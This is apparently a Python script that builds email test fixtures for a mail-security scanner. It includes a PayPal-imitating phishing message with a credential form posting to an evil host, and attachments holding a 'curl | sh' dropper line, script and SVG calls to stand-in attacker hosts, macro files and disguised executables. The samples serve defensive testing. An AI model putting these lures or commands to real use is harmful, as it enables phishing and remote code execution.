#!/usr/bin/env python3
"""Write the small test messages in tests/fixtures (committed; rerun only to
change them, then review the golden diff).

Every message and attachment here is made up for the tests: the archives,
the OLE compound file, the TNEF blob, the RTF and the PDF are built byte by
byte below, so nothing is copied from any corpus. The 7z attachment needs
`7z` (p7zip-full) when regenerating.
"""
import base64
import io
import os
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile

# tests/fixtures, beside this script's folder (tests/tools).
OUT = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "fixtures")
FIXED = (2026, 11, 1, 12, 0, 0)


def b64(data):
    return base64.encodebytes(data).decode()


def part(ctype, name, data, disposition="attachment", extra=""):
    h = "Content-Type: %s" % ctype
    if name:
        h += '; name="%s"' % name
    h += "\n"
    if disposition:
        h += "Content-Disposition: %s" % disposition
        if name:
            h += '; filename="%s"' % name
        h += "\n"
    h += extra
    return h + "Content-Transfer-Encoding: base64\n\n" + b64(data)


def zip_bytes(entries, encrypt=()):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name, FIXED), data, zipfile.ZIP_DEFLATED)
    raw = bytearray(buf.getvalue())
    # Mark chosen entries encrypted (general purpose flag bit 0) in both the
    # local header and the central directory: what an encrypted zip's
    # structure says, which is all a scanner can see without the password.
    for sig, flag_off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = raw.find(sig)
        while i >= 0:
            if sig == b"PK\x03\x04":
                nlen = struct.unpack_from("<H", raw, i + 26)[0]
                name = bytes(raw[i + 30:i + 30 + nlen]).decode()
            else:
                nlen = struct.unpack_from("<H", raw, i + 28)[0]
                name = bytes(raw[i + 46:i + 46 + nlen]).decode()
            if name in encrypt:
                raw[i + flag_off] |= 1
            i = raw.find(sig, i + 4)
    return bytes(raw)


def targz_bytes(entries):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.USTAR_FORMAT) as t:
        for name, data in entries:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 1793534400
            t.addfile(ti, io.BytesIO(data))
    raw = bytearray(buf.getvalue())
    raw[4:8] = b"\0\0\0\0"  # gzip mtime: reproducible bytes
    return bytes(raw)


def sevenzip_bytes(entries):
    with tempfile.TemporaryDirectory() as d:
        for name, data in entries:
            p = os.path.join(d, name)
            with open(p, "wb") as f:
                f.write(data)
            os.utime(p, (1793534400, 1793534400))
        subprocess.run(["7z", "a", "-t7z", "-bd", "-bso0", os.path.join(d, "a.7z")]
                       + [n for n, _ in entries], cwd=d, check=True)
        with open(os.path.join(d, "a.7z"), "rb") as f:
            return f.read()


def ole_bytes(names):
    """A minimal OLE2 compound file: header, FAT, directory and stream data.
    names: (name, type) or (name, type, data); type 1 storage, 2 stream.
    Stream data is padded to 4096 bytes so it lives in regular sectors."""
    FREE, END, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    entries = [("Root Entry", 5, None)] + [tuple(n) + (None,) * (3 - len(n)) for n in names]
    n_dir = (len(entries) + 3) // 4
    datas = []
    next_sector = 1 + n_dir  # sector 0 is the FAT
    fat = [FATSECT] + [2 + i if i < n_dir - 1 else END for i in range(n_dir)]
    starts = []
    for _, typ, data in entries:
        if data is None:
            starts.append(END)
            continue
        data = data + b"\0" * (max(4096, len(data)) - len(data))
        data += b"\0" * (-len(data) % 512)
        n = len(data) // 512
        starts.append(next_sector)
        fat += [next_sector + i + 1 if i < n - 1 else END for i in range(n)]
        next_sector += n
        datas.append(data)
    assert len(fat) <= 128, "one FAT sector is enough for the fixtures"
    hdr = bytearray(512)
    hdr[0:8] = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"
    struct.pack_into("<HHHHH", hdr, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIII", hdr, 44, 1, 1, 0, 4096)  # FAT sectors, dir start, txn, cutoff
    struct.pack_into("<IIII", hdr, 60, END, 0, END, 0)  # minifat, count, difat, count
    struct.pack_into("<I", hdr, 76, 0)  # DIFAT[0]: the FAT is sector 0
    for i in range(1, 109):
        struct.pack_into("<I", hdr, 76 + 4 * i, FREE)
    fatb = bytearray(b"\xff" * 512)
    for i, v in enumerate(fat):
        struct.pack_into("<I", fatb, 4 * i, v)
    dirs = bytearray()
    for i, (name, typ, data) in enumerate(entries):
        e = bytearray(128)
        n = name.encode("utf-16-le") + b"\0\0"
        e[0:len(n)] = n
        struct.pack_into("<HBB", e, 64, len(n), typ, 1)
        child = 1 if i == 0 else NOSTREAM
        right = i + 1 if 0 < i < len(entries) - 1 else NOSTREAM
        struct.pack_into("<III", e, 68, NOSTREAM, right, child)
        size = 0 if data is None else max(4096, len(data))
        struct.pack_into("<II", e, 116, starts[i], size)
        dirs += e
    dirs += b"\0" * (512 * n_dir - len(dirs))
    return bytes(hdr + fatb + dirs + b"".join(datas))


def biff_workbook(macro_sheet):
    """BIFF8 globals: BOF, a BOUNDSHEET (type 1 = Excel 4 macro sheet), EOF."""
    def rec(t, data):
        return struct.pack("<HH", t, len(data)) + data
    name = b"Macro1"
    sheet = struct.pack("<IBB", 0, 0, 1 if macro_sheet else 0) + bytes([len(name), 0]) + name
    return rec(0x0809, struct.pack("<HHHHII", 0x0600, 5, 0, 0, 0, 0)) + rec(0x0085, sheet) + \
        rec(0x000A, b"")


def word_document(encrypted):
    """The start of a Word FIB: wIdent 0xA5EC; fEncrypted is bit 0 of byte 11."""
    fib = bytearray(64)
    struct.pack_into("<HH", fib, 0, 0xA5EC, 0x00C1)
    fib[11] = 0x01 if encrypted else 0
    return bytes(fib)


def tnef_bytes(attachments):
    out = bytearray(struct.pack("<IH", 0x223E9F78, 0x0001))

    def attr(level, aid, data):
        out.extend(struct.pack("<BII", level, aid, len(data)))
        out.extend(data)
        out.extend(struct.pack("<H", sum(data) & 0xFFFF))

    attr(1, 0x00089006, b"\x01\x00\x00\x00")  # attTnefVersion-ish
    for title, data in attachments:
        attr(2, 0x00069002, b"\x01\x00\xff\xff\xff\xff" + b"\0" * 8)  # attAttachRendData
        attr(2, 0x00018010, title.encode() + b"\0")  # attAttachTitle
        attr(2, 0x0006800F, data)  # attAttachData
    return bytes(out)


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 44 + \
    struct.pack("<I", 64) + b"PE\0\0\x4c\x01\x03\x00" + b"\0" * 200


def write(name, text):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(text.encode("utf-8") if isinstance(text, str) else text)


def plain():
    return """Return-Path: <alerts@billing.example.com>
Received: from mail.billing.example.com (mail.billing.example.com [203.0.113.25])
\tby mx1.corp.example (Postfix) with ESMTPS id 4AB12C
\tfor <finance@corp.example>; Sun, 1 Nov 2026 12:00:05 +0100 (CET)
Received: from [10.1.2.3] (helo=build7)
\tby relay.billing.example.com with esmtpa (Exim 4.96)
\tid 1xYz; Sun, 01 Nov 2026 11:00:01 +0000
Authentication-Results: mx1.corp.example;
\tspf=pass (domain of billing.example.com designates 203.0.113.25) smtp.mailfrom=billing.example.com;
\tdkim=pass (2048-bit key) header.d=billing.example.com header.s=mail2026;
\tdmarc=pass (p=quarantine) header.from=billing.example.com
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=billing.example.com;
\ts=mail2026; h=from:to:subject:date; bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;
\tb=dGVzdA==
From: Billing Team <alerts@billing.example.com>
To: Finance <finance@corp.example>
Subject: Your November statement
Date: Sun, 1 Nov 2026 11:00:00 +0000
Message-ID: <statement-2026-11@billing.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Hello,

your statement for November is ready at https://portal.billing.example.com/statements?id=2026-11.
Questions? See www.billing.example.com/help, or write to support@billing.example.com.

-- 
Billing Team
"""


def html_phish():
    html = """<html><head><title>Account notice</title>
<style>.hidden{display:none}</style><script>document.write('<a href="http://script.example/">')</script>
</head><body>
<p>Dear customer,</p>
<p>We detected unusual sign-in activity. Please <a href="http://0xCB.0x00.0x71.0x07/secure/login.php">https://www.paypal.com/signin</a>
within 24&nbsp;hours or your account will be limited.</p>
<p><a href="https://www.paypal.com@login-verify.example.net/session">Review activity</a> |
<a href="https://xn--pypal-4ve.com/help">Help Center</a> |
<a href="https://secure.example.org/%6C%6F%67%69%6E">Log&#x69;n</a></p>
<form action="https://collect.evil.example/submit" method="post"><input name="pw" type="password"></form>
<img src="https://tracker.evil.example/pixel.gif?u=42" width="1" height="1">
<!-- <a href="http://comment.example/">hidden</a> -->
<p style="font-size:0">r&zwnj;a&zwnj;n&zwnj;d&zwnj;o&zwnj;m</p>
&copy; 2026 PayPal, Inc.
</body></html>
"""
    text = "Dear customer, please sign in at https://www.paypal.com/signin within 24 hours.\n"
    return """From: "PayPal Service" <service@paypal-security-alerts.example>
Reply-To: resolution.center.team@gmail.com
To: victim@corp.example
Subject: =?UTF-8?B?4pqg77iPIFlvdXIgYWNjb3VudCBoYXMgYmVlbiBsaW1pdGVk?=
Date: Mon, 2 Nov 2026 03:14:15 -0800
Message-ID: <8f2a.1@paypal-security-alerts.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt-1"

--alt-1
Content-Type: text/plain; charset=utf-8

""" + text + """
--alt-1
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

""" + html.replace("=", "=3D") + """
--alt-1--
"""


def international():
    body_latin1 = "Grüße aus Köln – die Rechnung liegt bei. Zahlung an IBAN DE89 3704 0044 0532 0130 00.\n"
    qp = "".join(
        "=%02X" % b if b > 127 or b == 61 else chr(b) for b in body_latin1.encode("cp1252"))
    pdf = b"%PDF-1.4\n1 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://pay.rechnung-online.example/r?id=7) >> >> endobj\n%%EOF\n"
    return """From: =?ISO-8859-1?Q?J=FCrgen_M=FCller?= <juergen@müller-bau.example.de>
Sender: =?utf-8?q?Buchhaltung?= <buchhaltung@xn--mller-bau-q9a.example.de>
To: =?utf-8?b?0JjQstCw0L0g0J/QtdGC0YDQvtCy?= <ivan@пример.example>
Cc: accounts@bbc.co.uk
Subject: =?ISO-8859-1?Q?Rechnung_f=FCr_Oktober?= =?UTF-8?Q?_=E2=80=93_dringend?=
Date: Tue, 3 Nov 2026 09:30:00 +0100
Message-ID: <rechnung.2026.10@müller-bau.example.de>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="m"

--m
Content-Type: text/plain; charset=windows-1252
Content-Transfer-Encoding: quoted-printable

""" + qp + """
--m
Content-Type: text/plain; charset=iso-2022-jp

\x1b$B$*@A5a=q\x1b(B
--m
Content-Type: application/pdf; name*=utf-8''Rechnung%20M%C3%BCller%202026.pdf
Content-Disposition: attachment; filename*=utf-8''Rechnung%20M%C3%BCller%202026.pdf
Content-Transfer-Encoding: base64

""" + b64(pdf) + """--m--
"""


def attachments():
    docm = zip_bytes([
        ("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", b"<w:document/>"),
        ("word/vbaProject.bin", ole_bytes([("VBA", 1), ("PROJECT", 2)])),
    ])
    inner = targz_bytes([("tools/run.sh", b"#!/bin/sh\ncurl http://dropper.example/x | sh\n"),
                         ("tools/readme.txt", b"nothing to see\n")])
    zipped = zip_bytes([("invoice.pdf.exe", EXE), ("docs/tools.tar.gz", inner)])
    encrypted = zip_bytes([("secret.exe", EXE), ("note.txt", b"password is 1234\n")],
                          encrypt=("secret.exe",))
    seven = sevenzip_bytes([("payload.js", b"WScript.Shell.Run('calc');\n")])
    ole = ole_bytes([("WordDocument", 2), ("Macros", 1), ("VBA", 1), ("ObjectPool", 1)])
    rtf = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}\\objdata 01050000}}"
    tnef = tnef_bytes([("payment-details.exe", EXE), ("notes.txt", b"see attached\n")])
    url = b"[InternetShortcut]\r\nURL=https://fileshare.evil.example/invoice\r\nIconIndex=0\r\n"
    htm = b'<html><body><form action="https://harvest.evil.example/p"><input type="password"></form><script>location="https://redirect.evil.example/"</script></body></html>'
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://svg-link.evil.example/"><text>Open</text></a><script>fetch("https://svg-script.evil.example")</script></svg>'
    parts = [
        "Content-Type: text/plain\n\nFiles attached, as discussed.\n",
        part("application/zip", "invoice.zip", zipped),
        part("application/zip", "locked.zip", encrypted),
        part("application/x-7z-compressed", "script.7z", seven),
        part("application/vnd.ms-word.document.macroEnabled.12", "report.docm", docm),
        part("application/msword", "legacy.doc", ole),
        part("application/vnd.ms-excel", "budget.xls",
             ole_bytes([("Workbook", 2, biff_workbook(True))])),
        part("application/msword", "secret.doc",
             ole_bytes([("WordDocument", 2, word_document(True))])),
        part("application/rtf", "letter.rtf", rtf),
        part("application/ms-tnef", "winmail.dat", tnef),
        part("application/octet-stream", "shortcut.url", url),
        part("text/html", "login.html", htm),
        part("image/svg+xml", "image.svg", svg),
        # A right-to-left override in the name: shown as "invoiceexe.pdf".
        "Content-Type: application/octet-stream\n"
        "Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\n"
        "Content-Transfer-Encoding: base64\n\n" + b64(EXE),
        part("image/gif", None, b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", disposition="inline",
             extra="Content-ID: <logo@x>\n"),
    ]
    body = "".join("--att\n" + p for p in parts) + "--att--\n"
    return """From: Supplier Accounts <accounts@supplier.example>
To: ap@corp.example
Subject: Documents
Date: Wed, 4 Nov 2026 10:00:00 +0000
Message-ID: <docs@supplier.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="att"

""" + body


def forwarded():
    inner = """From: "IT Helpdesk" <helpdesk@c0rp.example>
To: staff@corp.example
Subject: Mailbox quota exceeded
Date: Thu, 5 Nov 2026 08:00:00 +0000
Message-ID: <quota@c0rp.example>
Content-Type: text/html; charset=utf-8

<p>Your mailbox is full. <a href="https://c0rp.example/owa/quota">Increase quota</a></p>
"""
    return """From: Alice <alice@corp.example>
To: security@corp.example
Subject: Fwd: Mailbox quota exceeded
Date: Thu, 5 Nov 2026 09:00:00 +0000
Message-ID: <fwd-1@corp.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="f"

--f
Content-Type: text/plain

Is this real? Forwarding as attachment.

--f
Content-Type: message/rfc822
Content-Disposition: attachment

""" + inner + """
--f--
"""


def malformed():
    return (b"From: one@example.com\n"
            b"From: two@evil.example\n"
            b"To: undisclosed-recipients:;, <broken@, bad address>\n"
            b"Subject: caf\xe9 8-bit header\n"
            b"Subject: caf\xe9 8-bit header\n"
            b"Date: not a date\n"
            b"Message-ID: <m1@example.com>\n"
            b"Message-ID: <m2@example.com>\n"
            b"MIME-Version: 1.0\n"
            b"Content-Type: multipart/mixed\n"
            b"\n"
            b"no boundary\rbare CR and a NUL \0 here\n")


def mbox_from():
    return ("From MAILER-DAEMON Sun Nov  1 12:00:00 2026\n"
            "From: list@lists.example.org\n"
            "To: member@corp.example\n"
            "Subject: [list] digest\n"
            "Date: Sun, 1 Nov 2026 12:00:00 +0000\n"
            "Message-ID: <digest@lists.example.org>\n"
            "\n"
            ">From the archive: nothing new.\n")


def main():
    os.makedirs(OUT, exist_ok=True)
    write("plain.eml", plain())
    write("html-phish.eml", html_phish())
    write("international.eml", international())
    write("attachments.eml", attachments())
    write("forwarded.eml", forwarded())
    write("malformed.eml", malformed())
    write("mbox-from.eml", mbox_from())
    write("not-a-message.txt", "This is just a note,\nnot an e-mail message at all.\n")


if __name__ == "__main__":
    sys.exit(main())
